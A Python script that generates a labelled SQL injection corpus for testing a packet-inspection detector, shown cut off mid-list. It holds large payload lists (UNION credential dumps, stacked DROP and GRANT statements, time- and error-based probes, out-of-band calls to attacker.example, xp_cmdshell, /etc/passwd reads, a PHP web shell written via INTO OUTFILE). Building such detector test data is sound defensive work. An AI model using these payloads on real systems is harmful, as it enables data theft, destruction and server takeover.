#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""Generate the labelled SQL injection corpus: attack.txt and benign.txt.

Each line is one value as dpi_sqli_check() sees it: an HTTP parameter value
after the HTTP layer's single percent-decoding. Attack lines are built from
hand-written payload templates per family, placed in the contexts they are
written for (numeric slot, after a closing quote, inside parentheses), and a
part of them is run through evasions (case mixing, comment whitespace,
executable comments, whitespace alternatives, residual percent-encoding,
hex/CHAR() literals, backticks). Benign lines are generated from templates
and the word list of Debian's wamerican package (/usr/share/dict/words).

Output is deterministic (fixed seed); run: /usr/bin/python3 gen.py [OUTDIR]
"""
import base64
import os
import random
import re
import sys
import uuid

R = random.Random(0x5141)
OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))

# ---------------------------------------------------------------- attacks

# Where the payload sits: what closes the original literal or expression.
STR_BREAKS = ["'", "')", "'))", "1'", "admin'", "x'", "test'", "%'", "abc')"]
DQ_BREAKS = ['"', '")', '1"', 'admin"']
NUM_BREAKS = ["1", "-1", "0", "1)", "1))", "999999", "-1)", "2"]
ENDS = ["-- -", "--", "#", "/*", "-- x", ";--", ";#", "-- ", "#abc"]

TAUT_COMPLETE = [
    "OR 1=1", "OR 1=1 LIMIT 1", "OR 2>1", "OR 'a'='a'", "OR 1 LIKE 1", "OR 3 BETWEEN 1 AND 5",
    "OR 1 IN (1,2)", "OR NOT 1=2", "OR 0x31=0x31", "OR CHAR(49)=CHAR(49)", "OR 5-4=1",
    "OR 'x' IS NOT NULL", "OR ASCII('a')=97", "OR 1<>2", "OR 1!=2", "OR 2>=1",
    "OR 'abc' LIKE 'a%'", "OR 1=1 ORDER BY 1", "|| 1=1", "OR true", "OR 1", "OR 'a'='a' AND 'b'='b'",
    "OR 1 = 1", "OR (1=1)", "OR ((1=1))", "OR 1=1 AND 2=2", "OR 'a' RLIKE 'a'", "OR 1 REGEXP 1",
    "OR 'foo'='foo'", "OR 'a' = 'a' ", "OR 1 IS NOT NULL", "OR 100=100", "OR 2 > 1 --",
]
TAUT_DANGLING = [  # end inside a string the query's own closing quote completes
    "OR '1'='1", "OR 'a'='a", "OR ''='", "OR 'x' LIKE 'x", "OR 1=1 OR '1'='1", "OR 'a'<>'b",
    "OR 'ab'='a' 'b", "OR 'a' IN ('a", "OR 'z' BETWEEN 'a' AND 'z", "OR 1=1 AND ''='",
    "OR 'x'='x", "OR 'something'='something", "OR 2>'1", "OR 'b'>'a",
]
DQ_DANGLING = ['OR "1"="1', 'OR "a"="a', 'OR ""="', 'OR "x" LIKE "x']
BLIND = [
    "AND 1=1", "AND 1=2", "AND 'a'='a'", "AND 2>1", "AND 1=0",
    "AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
    "AND (SELECT COUNT(*) FROM users)>0", "AND LENGTH(database())=8",
    "AND SUBSTRING(@@version,1,1)='5'", "AND SUBSTRING(version(),1,1)=5",
    "AND (SELECT SUBSTR(table_name,1,1) FROM information_schema.tables LIMIT 1)='a'",
    "AND ORD(MID((SELECT IFNULL(CAST(username AS CHAR),0x20) FROM users ORDER BY id LIMIT 0,1),1,1))>64",
    "AND (SELECT ascii(substr(current_user,1,1)))>100",
    "AND (SELECT TOP 1 LEN(name) FROM sysobjects)>3",
    "AND UNICODE(SUBSTRING(DB_NAME(),1,1))>64",
    "AND (SELECT LENGTH(user) FROM dual)=4", "AND 1=(SELECT 1 FROM dual WHERE 1=1)",
    "RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", "AND MAKE_SET(1=1,1)",
    "AND 1 IN (SELECT 1)", "AND EXISTS(SELECT * FROM users)", "AND 3*2=6",
    "AND (SELECT 'a' FROM users LIMIT 1)='a'", "AND ascii(lower(substring((SELECT database()),1,1)))>97",
    "AND (SELECT COUNT(*) FROM information_schema.columns WHERE table_name='users')>5",
    "AND MID(user(),1,1)='r'", "AND BINARY SUBSTRING(user(),1,1)='r'",
    "AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)=1",
    "AND 1=(CASE WHEN (SUBSTR(user,1,1)='S') THEN 1 ELSE 0 END)",
    "AND ELT(1=1,1)", "AND 5 BETWEEN 1 AND 10", "AND 'a' LIKE 'a'",
    "AND (SELECT 1 FROM users WHERE username='admin' AND LENGTH(password)>8)=1",
    "AND CHAR_LENGTH(database())>1", "AND IFNULL(NULL,1)=1",
    "AND (SELECT 1)=1", "AND NOT 1=2", "&& 1=1", "AND 0x61=0x61",
]
BLIND_DANGLING = ["AND '1'='1", "AND 'a'='b", "AND 1=1 AND 'x'='x", "AND 'abc' LIKE 'a%",
                  "AND ASCII(SUBSTRING(user(),1,1))>'64", "AND (SELECT 1)='1"]
UNION = [
    "UNION SELECT NULL", "UNION SELECT NULL,NULL", "UNION SELECT NULL,NULL,NULL",
    "UNION ALL SELECT NULL,NULL,NULL,NULL", "UNION SELECT 1,2", "UNION SELECT 1,2,3",
    "UNION ALL SELECT 1,2,3,4,5", "UNION SELECT 1,2,3,4,5,6,7,8",
    "UNION SELECT username,password FROM users", "UNION SELECT 1,@@version,3",
    "UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()",
    "UNION SELECT table_name,NULL FROM information_schema.tables",
    "UNION SELECT column_name,NULL FROM information_schema.columns WHERE table_name='users'",
    "UNION SELECT NULL,version()", "UNION SELECT NULL,current_database()",
    "UNION SELECT usename,passwd FROM pg_shadow", "UNION SELECT name,NULL FROM master..sysdatabases",
    "UNION SELECT NULL,@@version", "UNION SELECT banner,NULL FROM v$version",
    "UNION SELECT NULL,NULL FROM dual", "UNION SELECT sql,NULL FROM sqlite_master",
    "UNION(SELECT 1,2)", "UNION DISTINCT SELECT 1,2", "UNION SELECT * FROM users",
    "UNION SELECT CHAR(97,100,109,105,110),2", "UNION SELECT 0x61646d696e,2",
    "UNION SELECT 1,concat(username,0x3a,password) FROM users",
    "UNION ALL SELECT NULL,CONCAT(0x7171,0x4a4b,0x7171),NULL",
    "UNION SELECT user(),database()", "UNION SELECT 1,2 FROM users WHERE 1=1",
    "UNION SELECT TOP 1 name,NULL FROM sysobjects WHERE xtype='U'",
    "UNION SELECT username||':'||password,NULL FROM users",
    "UNION SELECT string_agg(tablename,','),NULL FROM pg_tables",
    "UNION SELECT password FROM users", "UNION SELECT 'a','b'", "UNION SELECT NULL,table_name FROM all_tables",
    "UNION ALL SELECT @@version,NULL,NULL", "UNION SELECT 1,2,3 LIMIT 1",
    "UNION SELECT 1,2 ORDER BY 1", "UNION SELECT schema_name,1 FROM information_schema.schemata",
    "UNION SELECT 1,(SELECT password FROM users LIMIT 1)",
]
STACKED = [
    "; DROP TABLE users", "; DELETE FROM users", "; INSERT INTO users (username,password) VALUES ('hacker','x')",
    "; UPDATE users SET password='x' WHERE username='admin'", "; SHUTDOWN",
    "; EXEC sp_configure 'show advanced options',1", "; DECLARE @q VARCHAR(99) SET @q='x' EXEC(@q)",
    "; CREATE USER hacker IDENTIFIED BY 'x'", "; ALTER TABLE users ADD x INT", "; TRUNCATE TABLE logs",
    "; SELECT * FROM users", "; SELECT version()", "; GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'",
    "; CREATE TABLE x(y text)", "; DROP DATABASE app", "; UPDATE users SET role='admin'",
    "; SET @a=1", "; CALL proc()", "; INSERT INTO admins VALUES (1,'x','y')",
    "; DROP TABLE IF EXISTS orders", "; DELETE FROM sessions WHERE 1=1", "; SELECT 1,2,3",
    "; UPDATE products SET price=0", "; SELECT @@version", "; SHUTDOWN WITH NOWAIT",
    "; CREATE OR REPLACE FUNCTION f() RETURNS void AS $$ $$ LANGUAGE sql",
    "; ALTER USER postgres WITH PASSWORD 'x'", "; REVOKE ALL ON users FROM app",
    "; SELECT name FROM sysobjects", "; EXEC sp_addlogin 'x','y'",
    "; INSERT INTO users SELECT * FROM admins", "; DROP VIEW v", "; RENAME TABLE users TO old",
    "; select current_user", "; DO SLEEP(0)",
]
TIME = [
    "AND SLEEP(5)", "OR SLEEP(5)", "AND (SELECT * FROM (SELECT(SLEEP(5)))a)", "AND IF(1=1,SLEEP(5),0)",
    "AND BENCHMARK(5000000,MD5(1))", "OR IF(ASCII(SUBSTRING(database(),1,1))>64,SLEEP(3),0)",
    "RLIKE SLEEP(5)", "XOR SLEEP(5)", "AND SLEEP(5)=0", "OR BENCHMARK(10000000,SHA1('x'))",
    "AND (SELECT 1 FROM (SELECT SLEEP(5))x)", "; SELECT SLEEP(5)", "AND 0=SLEEP(5)",
    "AND 1=(SELECT 1 FROM PG_SLEEP(5))", "; SELECT pg_sleep(5)", "|| pg_sleep(5)",
    "AND (SELECT 1 FROM pg_sleep(5)) IS NOT NULL", "OR 1=(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)",
    "; SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END", "AND pg_sleep(5) IS NULL",
    "; WAITFOR DELAY '0:0:5'", "WAITFOR DELAY '0:0:5'", "; IF (1=1) WAITFOR DELAY '0:0:5'",
    "; IF (SELECT COUNT(*) FROM users)>0 WAITFOR DELAY '0:0:5'", "; WAITFOR TIME '23:59:00'",
    "AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)", "AND 1337=DBMS_PIPE.RECEIVE_MESSAGE(CHR(32),5)",
    "OR 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(98)||CHR(99),10)", "; BEGIN DBMS_LOCK.SLEEP(5); END",
    "AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))", "AND 1=randomblob(100000000)",
    "AND IF(SUBSTRING(user(),1,1)='r',SLEEP(5),1)", "AND (SELECT SLEEP(5) FROM users LIMIT 1)",
    "OR SLEEP(5)=0 LIMIT 1", "AND (SELECT 4523 FROM (SELECT(SLEEP(5)))abc)",
    "AND SLEEP(5) AND 1=1", "AND pg_sleep_for('5 seconds') IS NULL",
]
ERROR = [
    "AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))", "AND UPDATEXML(1,CONCAT(0x7e,(SELECT user())),1)",
    "AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
    "AND EXP(~(SELECT * FROM (SELECT user())x))", "AND GTID_SUBSET(CONCAT(0x7e,(SELECT version())),1)",
    "AND 1=CONVERT(int,@@version)", "AND 1=CAST((SELECT TOP 1 name FROM sysobjects) AS int)",
    "AND 1=CAST((SELECT version()) AS int)", "AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))",
    "AND 1=UTL_INADDR.GET_HOST_NAME((SELECT user FROM dual))",
    "AND (SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT user FROM dual)||CHR(62))) FROM dual) IS NOT NULL",
    "AND (SELECT * FROM (SELECT NAME_CONST(version(),1),NAME_CONST(version(),1))a)",
    "AND EXTRACTVALUE(1337,CONCAT(0x5c,0x71706a7171,(SELECT (ELT(1337=1337,1))),0x7178717871))",
    "OR UPDATEXML(1,CONCAT(0x7e,database()),1)", "AND extractvalue(rand(),concat(0x3a,(SELECT table_name FROM information_schema.tables LIMIT 1)))",
    "PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)", "AND 1=CAST(current_user AS int)",
    "AND 1=convert(int,(SELECT TOP 1 table_name FROM information_schema.tables))",
    "AND 1=(SELECT CAST(version() AS numeric))", "OR 1 GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)",
    "AND GTID_SUBTRACT(CONCAT(0x7e,user()),1)", "AND updatexml(null,concat(0x0a,version()),null)",
]
OOB = [
    "AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\\\a'))",
    "UNION SELECT LOAD_FILE('/etc/passwd'),NULL", "; EXEC master..xp_dirtree '\\\\attacker.example\\a'",
    "; EXEC xp_fileexist '\\\\x.example\\a'", "; EXEC xp_cmdshell 'whoami'", "; EXEC master..xp_cmdshell 'ping 10.0.0.1'",
    "AND UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) IS NOT NULL",
    "AND (SELECT UTL_INADDR.GET_HOST_ADDRESS('x.attacker.example') FROM dual) IS NOT NULL",
    "; COPY (SELECT '') TO PROGRAM 'nslookup x.attacker.example'", "UNION SELECT 1,2 INTO OUTFILE '/tmp/x'",
    "UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'",
    "; SELECT * FROM OPENROWSET('SQLOLEDB','Network=DBMSSOCN;Address=10.0.0.1;uid=sa;pwd=x','SELECT 1')",
    "AND (SELECT dblink_connect('host=attacker.example user=x'))", "; LOAD DATA INFILE '/etc/passwd' INTO TABLE x",
    "AND pg_read_file('/etc/passwd') IS NOT NULL", "; SELECT lo_import('/etc/passwd')",
    "UNION SELECT 1,2 INTO DUMPFILE '/tmp/x.so'", "; COPY users TO PROGRAM 'curl attacker.example'",
    "AND SYS_EVAL('id') IS NOT NULL", "; EXEC master.dbo.xp_dirtree '\\\\10.0.0.9\\share'",
    "AND LOAD_FILE('/etc/hosts') IS NOT NULL", "OR (SELECT load_file(concat('\\\\\\\\',version(),'.x.example\\\\a')))",
]
SUBQ = [  # value = subquery / concatenation inside a string (second-order style)
    "' || (SELECT password FROM users WHERE username='admin') || '",
    "'+(SELECT TOP 1 password FROM users)+'", "' || (SELECT version()) || '",
    "'||(SELECT banner FROM v$version WHERE rownum=1)||'", "(SELECT 1)", "(SELECT password FROM users LIMIT 1)",
    "(SELECT CASE WHEN (1=1) THEN 1 ELSE 2 END)", "1 AND (SELECT 1)=1", "1=(SELECT 1)",
    "(SELECT * FROM (SELECT 1)x)", "IF(1=1,1,(SELECT 1 UNION SELECT 2))", "' + (SELECT @@version) + '",
    "'||(SELECT current_user)||'", "x' AND (SELECT 1 FROM users LIMIT 1)='1", "(SELECT 1 FROM dual)",
    "(CASE WHEN (SELECT COUNT(*) FROM users)>0 THEN 1 ELSE 2 END)", "1-(SELECT 1)",
    "'||(SELECT substr(password,1,1) FROM users LIMIT 1)||'",
    "bob' || (SELECT password FROM users WHERE username='admin') || '",
    "x'; UPDATE users SET password='pwned' WHERE username='admin'-- ",
    "', (SELECT password FROM users LIMIT 1)) -- ", "test', (SELECT @@version), 'x')#",
    "1', (SELECT user()), 1)-- -", "x' + CHAR(0x41) + (SELECT TOP 1 name FROM sysobjects) + '",
]
CLAUSE = ["ORDER BY 1", "ORDER BY 10", "ORDER BY 1,2,3", "GROUP BY 1,2,3", "HAVING 1=1",
          "GROUP BY id HAVING 1=1", "LIMIT 1,1", "PROCEDURE ANALYSE()", "ORDER BY 3 DESC",
          "GROUP BY username HAVING 1=1", "ORDER BY 5", "LIMIT 0,1", "ORDER BY 1 ASC, 2"]
COMMENT_USERS = ["admin", "administrator", "root", "sa", "test", "user", "guest", "john.doe",
                 "alice@example.com", "operator", "webmaster", "admin1", "superuser"]
COMMENT_TAILS = ["'--", "' --", "'#", "' #", "'/*", "')--", "' -- -", "'))#", "'-- x", "';--", "'#x", "') -- "]


def ctx_str(body, ends):
    out = []
    for b in STR_BREAKS:
        for e in ends:
            out.append("%s %s%s%s" % (b, body, "" if e.startswith(";") else " ", e))
    return out


def ctx_num(body, ends):
    out = []
    for b in NUM_BREAKS:
        for e in ends:
            if b.endswith(")") and not e:
                continue  # the query's own ")" would be left over: needs a comment
            out.append(("%s %s %s" % (b, body, e)).rstrip())
    return out


def stacked(body, str_ends, num_ends):
    """A statement after ';': after a string break the query's closing quote
    must be commented out, after a number the statement may end the query."""
    return ["%s%s%s" % (b, body, e) for b in STR_BREAKS for e in str_ends] + \
           ["%s%s%s" % (b, body, e) for b in NUM_BREAKS for e in num_ends
            if e or not b.endswith(")")]


def pick(lst, k):
    return R.sample(lst, min(k, len(lst)))


def base_attacks():
    fam = {}

    def add(f, items):
        fam.setdefault(f, []).extend(items)

    for body in TAUT_COMPLETE:
        add("tautology", pick(ctx_str(body, ENDS), 6))
        add("tautology", pick(ctx_num(body, ENDS + [""]), 3))
    for body in TAUT_DANGLING:
        for b in pick(STR_BREAKS, 5):
            body2 = body
            if b.endswith(")") and not b.endswith("'))"):
                body2 = body.replace("OR ", "OR (", 1)
            elif b.endswith("))"):
                body2 = body.replace("OR ", "OR ((", 1)
            add("tautology", ["%s %s" % (b, body2)])
    for body in DQ_DANGLING:
        for b in DQ_BREAKS:
            body2 = body.replace("OR ", "OR (", 1) if b.endswith(")") else body
            add("tautology", ["%s %s" % (b, body2)])
    for body in TAUT_COMPLETE[:12]:
        add("tautology", pick(["%s %s %s" % (b, body, e) for b in DQ_BREAKS for e in ["-- -", "#", "--"]], 2))
    for body in BLIND:
        add("boolean-blind", pick(ctx_str(body, ENDS), 4))
        add("boolean-blind", pick(ctx_num(body, ENDS + ["", ""]), 4))
    for body in BLIND_DANGLING:
        add("boolean-blind", ["%s %s" % (b, body) for b in pick(["1'", "x'", "admin'", "'"], 3)])
    for body in UNION:
        add("union", pick(ctx_str(body, ENDS), 5))
        add("union", pick(ctx_num(body, ENDS + ["", "", ""]), 5))
        add("union", pick(["%s %s %s" % (b, body, e) for b in DQ_BREAKS for e in ["-- -", "#"]], 1))
    for body in STACKED:
        add("stacked", pick(stacked(body, ["--", "-- -", "#", ";--"], ["--", "-- -", "#", ";", "", ";--"]), 5))
    for body in TIME:
        if body.startswith(";"):
            add("time", pick(stacked(body, ["--", "-- -", "#"], ["--", "-- -", "#", ""]), 5))
        elif body.startswith("WAITFOR"):
            add("time", pick(stacked(" " + body, ["--", "-- -"], ["--", "-- -", ""]), 5))
        else:
            add("time", pick(ctx_str(body, ENDS), 4))
            add("time", pick(ctx_num(body, ENDS + ["", ""]), 4))
    for body in ERROR:
        add("error", pick(ctx_str(body, ENDS), 4))
        add("error", pick(ctx_num(body, ENDS + [""]), 3))
    for body in OOB:
        if body.startswith(";"):
            add("oob", pick(stacked(body, ["--", "-- -"], ["--", "-- -", ""]), 4))
        else:
            add("oob", pick(ctx_str(body, ENDS), 3))
            add("oob", pick(ctx_num(body, ENDS + [""]), 3))
    add("subquery", SUBQ)
    add("tool-style", TOOLISH)
    add("cheat-sheet", CLASSIC)
    add("hand-written", HANDWRITTEN_ATTACK)
    for body in CLAUSE:
        add("clause", pick(ctx_str(body, ENDS), 5))
        add("clause", pick(ctx_num(body, ["--", "#", "-- -"]), 2))
    for u in COMMENT_USERS:
        add("comment", ["%s%s" % (u, t) for t in COMMENT_TAILS])
        add("comment", ['%s"--' % u, '%s" #' % u])
    return fam


# Payloads in the style of sqlmap's boundaries and of the classic cheat
# sheets, written out as a tester would paste them into a parameter.
TOOLISH = [
    "1 AND 4386=4386", "1' AND 4386=4386 AND 'abcd'='abcd", "1) AND 4386=4386 AND (7541=7541",
    "1 AND 4386=4386-- abcd", "1' AND 4386=4386#", "1 OR 4386=4386#", "-5385' OR 4420=4420#",
    "1') AND 8214=8214 AND ('qwer'='qwer", '1" AND 9911=9911 AND "zxcv"="zxcv',
    "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71766a7a71,(SELECT (ELT(5555=5555,1))),0x7178767071,0x78))s), 8446744073709551610, 8446744073709551610)))-- abcd",
    "1 AND (SELECT 6655 FROM(SELECT COUNT(*),CONCAT(0x71,(SELECT (ELT(6655=6655,1))),0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)",
    "1';SELECT PG_SLEEP(5)--", "1 AND 6731=(SELECT 6731 FROM PG_SLEEP(5))", "1) WAITFOR DELAY '0:0:5'--",
    "1 ORDER BY 1-- abcd", "1 UNION ALL SELECT NULL,NULL,CONCAT(0x7176,0x4b,0x71)-- -",
    "1' AND 3121=CAST((CHR(113)||CHR(120)||(SELECT (CASE WHEN (3121=3121) THEN 1 ELSE 0 END))::text||CHR(113)) AS NUMERIC) AND 'a'='a",
    "1 AND 5312=CONVERT(INT,(SELECT CHAR(113)+CHAR(118)+(SELECT (CASE WHEN (5312=5312) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113)))",
    "1' AND 8053=DBMS_PIPE.RECEIVE_MESSAGE(CHR(88)||CHR(75),5) AND 'a'='a",
    "1 AND 7198=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||CHR(113)||(SELECT (CASE WHEN (7198=7198) THEN 1 ELSE 0 END) FROM DUAL)||CHR(62))) FROM DUAL)",
    "(SELECT (CASE WHEN (4417=4417) THEN 1 ELSE (SELECT 4082 UNION SELECT 3121) END))",
    "1,(SELECT (CASE WHEN (1=1) THEN 1 ELSE 1*(SELECT 1 UNION SELECT 2) END))",
    "1 RLIKE (SELECT (CASE WHEN (6043=6043) THEN 1 ELSE 0x28 END))", "1 AND ELT(2934=2934,SLEEP(5))",
    "1 AND 9824=BENCHMARK(5000000,MD5(0x4a4b))", "1;DECLARE @x CHAR(9);SET @x=0x303a303a35;WAITFOR DELAY @x--",
    "1 AND GTID_SUBSET(CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71),1)",
    "1 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71)) USING utf8)))",
    "1 PROCEDURE ANALYSE(EXTRACTVALUE(2421,CONCAT(0x5c,0x71,(SELECT (CASE WHEN (2421=2421) THEN 1 ELSE 0 END)),0x71)),1)",
    "1 AND 3402 IN (SELECT (CHAR(113)+CHAR(122)+(SELECT (CASE WHEN (3402=3402) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113)))",
    "1 AND 1=(SELECT 1 FROM (SELECT SLEEP(5))a)", "-1 OR 2>1-- -", "1' AND SLEEP(5) AND 'abc'='abc",
    "1' AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL) AND 'vRxe'='vRxe", "1 AND (SELECT 4564 FROM (SELECT(SLEEP(5)))Qwer)",
    "1' UNION ALL SELECT NULL,NULL,NULL-- -", '1" UNION ALL SELECT NULL,NULL#',
    "1 OR 1 GROUP BY CONCAT(0x71,(SELECT (CASE WHEN (1=1) THEN 1 ELSE 0 END)),0x71,FLOOR(RAND(0)*2)) HAVING MIN(0)#",
    "1);SELECT SLEEP(5)#", "1');WAITFOR DELAY '0:0:5'--", "1 AND 2716=(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2)",
    "1' AND 2716=(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000)) AND 'a'='a",
]
CLASSIC = [
    "' or 1=1--", '" or 1=1--', "' or 'a'='a", '" or "a"="a', "') or ('a'='a", '") or ("a"="a',
    "admin' --", "admin' #", "admin'/*", "' or 1=1#", "' or 1=1/*", "') or '1'='1--", "') or ('1'='1--",
    "1' or '1'='1", "' OR 'x'='x';", "' OR 1=1 LIMIT 1;--", "' UNION SELECT 1, 'anotheruser', 'doesnt matter', 1--",
    "'; exec master..xp_cmdshell 'ping 10.10.1.2'--", "' having 1=1--", "' group by userid having 1=1--",
    "' union all select @@version--", "' or 0=0 --", '" or 0=0 --', "' or 0=0 #", "' or 1 in (@@version)--",
    "1 or sleep(5)#", '" or sleep(5)#', "' or sleep(5)='", "1) or sleep(5)#", "')) or sleep(5)='",
    "';waitfor delay '0:0:5'--", "1);waitfor delay '0:0:5'--", "1 or benchmark(10000000,MD5(1))#",
    "' or benchmark(10000000,MD5(1))#", "1 or pg_sleep(5)--", "' or pg_sleep(5)--",
    "' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055",
    "admin' or '1'='1'--", "admin' or '1'='1'#", 'admin") or ("1"="1', "' or ''-'",
    "' or ''&'", "' or ''^'", "' or ''*'", "' or true--", '" or true--', '") or true--', "') or true--",
    "') or ('x')=('x", "')) or (('x'))=(('x", '") or ("x")=("x', "admin' or 1=1 or ''='",
    "Robert'); DROP TABLE Students;--", "x' OR username LIKE '%admin%", "1' ORDER BY 1-- ",
    "1' ORDER BY 2-- ", "1' ORDER BY 3-- ", "-1' UNION SELECT 1,2,3 #",
    "1'||'1'='1", "1' or 1#", "1'/**/or/**/'1'='1", "1'\tor\t'1'='1", "1' oR 1=1 -- -",
    "1'||(select 1)||'", "1 /*!UNION*/ /*!SELECT*/ 1,2,3", "/*!12345UNION*/(/*!12345SELECT*/ 1,2)",
    "1 uNiOn aLl sElEcT 1,2", "1 UNION SELECT 1,2 FROM DUAL WHERE 1=1 AND 1=1", "0.1UNION SELECT 1,2",
    "1e1UNION SELECT 1,2", "admin'-- -", "admin';--", "\xbf' OR 1=1-- -",
    "' AND 1=(SELECT COUNT(*) FROM all_users)--", "' UNION SELECT NULL FROM dual--",
    "' || UTL_INADDR.GET_HOST_ADDRESS('x.example') || '", "'; EXEC('SEL'+'ECT 1')--",
    "'; EXEC sp_executesql N'SELECT 1'--", "' AND 1=(SELECT TOP 1 CAST(name AS int) FROM sys.tables)--",
    "'; SELECT * INTO newtable FROM users--", "' UNION SELECT sqlite_version(),NULL--",
    "' AND 1=randomblob(1000000000)--", "' or 1=1 or ''='", "1 or 1=1", "1' or 1=1 and '1'='1",
    "' OR EXISTS(SELECT * FROM users WHERE username='admin')--", "' AND 1 IN (SELECT 1)--",
    "' or 'unusual' = 'unusual'", "' or 'something' = 'some'+'thing'",
    "' or 'text' > 't'", "' or 2 > 1", "' or 'whatever' in ('whatever')", "' or 2 between 1 and 3",
    "' or username is not NULL or username = '",
    "1 and ascii(lower(substring((select top 1 name from sysobjects where xtype='u'), 1, 1))) > 116",
    "1 union all select 1,2,3,4,5,6,name from sysobjects where xtype = 'u' --",
    "'; if not(substring((select @@version),25,1) <> 0) waitfor delay '0:0:2' --",
    "'; shutdown with nowait; --", "' union select sum(columnname ) from tablename --",
    "-1 UNION SELECT 1 INTO @a,@b,@c", "1 AND (SELECT 1)=1 -- ", "1 AND 1=1 %00",
]


# Written by hand as a check on the generator (probes of forms the
# templates don't produce: no spaces, parentheses for spaces, dialect
# specifics); kept so the figures include them.
HANDWRITTEN_ATTACK = [
    "1' AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(1)</script>',table_name FROM information_schema.tables WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#",
    "1' and '1'='1",
    '1 and 1 = 1',
    "1' and 1=1 --",
    "' and 1=0 union select null,concat(first_name,0x0a,password) from users #",
    "%' and 1=0 union select null, table_name from information_schema.tables #",
    "1' or '1'='1' -- '",
    "admin' and substring(password/text(),1,1)='7",
    "x' AND email IS NULL; --",
    "x' AND userid IS NULL; --",
    "x' AND members.email IS NULL; --",
    "x' OR full_name LIKE '%Bob%",
    '23 OR 1=1',
    "'; DESC users; --",
    "1 AND USER_NAME() = 'dbo'",
    "' AND 1=CONVERT(INT, (SELECT @@VERSION)) --",
    '1)) or ((1=1',
    "1' and '1'='1' and 'a'='a",
    "a' or 3=3--",
    "' or 'a'='a' --",
    '" or ""="',
    '1 AND 1=0 UNION SELECT @@version,2',
    "' UNION SELECT username, password FROM users WHERE '1'='1",
    "9999' or '1'='1",
    "1' WAITFOR DELAY '00:00:05'--",
    "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--",
    "-1' UNION SELECT 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20--",
    "1' AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>64--",
    "1 AND (SELECT SUBSTRING(table_name,1,1) FROM information_schema.tables WHERE table_schema=database() LIMIT 0,1)='a'",
    "' oR '1'='1",
    "'oR'1'='1",
    "'or''='",
    "'||'1'='1",
    "1'or'1'='1'#",
    '1"or"1"="1"#',
    "admin'or 1=1#",
    '1 OR 1=1#',
    '1 OR 1=1/*',
    "' or 1=1 limit 1 -- -+",
    "'-sleep(5)-'",
    "'+sleep(5)+'",
    '1-sleep(5)',
    'if(now()=sysdate(),sleep(5),0)',
    "'XOR(if(now()=sysdate(),sleep(5),0))XOR'",
    "0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
    '(select(0)from(select(sleep(5)))v)/*\'+(select(0)from(select(sleep(5)))v)+\'"+(select(0)from(select(sleep(5)))v)+"*/',
    "1 and (select sleep(5) from dual where database() like '%')",
    "'; select pg_sleep(5); --",
    '1;select pg_sleep(5)',
    '1 AND 1=1 ORDER BY 1',
    '1 HAVING 1=1',
    "' AND 'x'='x",
    "') AND ('x'='x",
    '" AND "x"="x',
    "1' AND extractvalue(0x0a,concat(0x0a,(select database())))--",
    '1 union%0bselect 1,2',
    '1 union%a0select 1,2',
    "1'%20UNION%20SELECT%201,2--%20",
    '%2527%2520OR%25201%253D1--%2520',
    '1%27%20%4f%52%20%31%3d%31%23',
    "1'and(select 1)='1",
    "1'and'1'='1",
    "1'or(1)='1",
    "'or(1=1)#",
    "'or'1'like'1",
    '1/**/and/**/1=1',
    '1%0band%0b1=1',
    "' union(select(1),(2))-- -",
    "'union(select(username),(password)from(users))#",
    '1 and(select count(*)from information_schema.tables)>0',
    '1 union select 1,2,3 from information_schema.tables where table_schema like 0x7573657273',
    "1' and 1 regexp 1#",
    "1' && '1'='1",
    "admin' or 'a' like 'a'#",
    "1' procedure analyse()#",
    "1' into outfile '/tmp/x'#",
    "-1' union select 1,2,(select group_concat(schema_name) from information_schema.schemata)#",
    '1 and 1=(select 1 from dual where ascii(substr(user(),1,1))>0)',
    "1' and (select substring(@@version,1,1))='5",
    '1 and if(1=1,1,0)',
    '1 and case when 1=1 then 1 else 0 end',
    "1' and 'a'=char(97)#",
    "1' AND LOWER(user()) LIKE 'root%'#",
    "1;exec('xp_cmdshell ''dir''')",
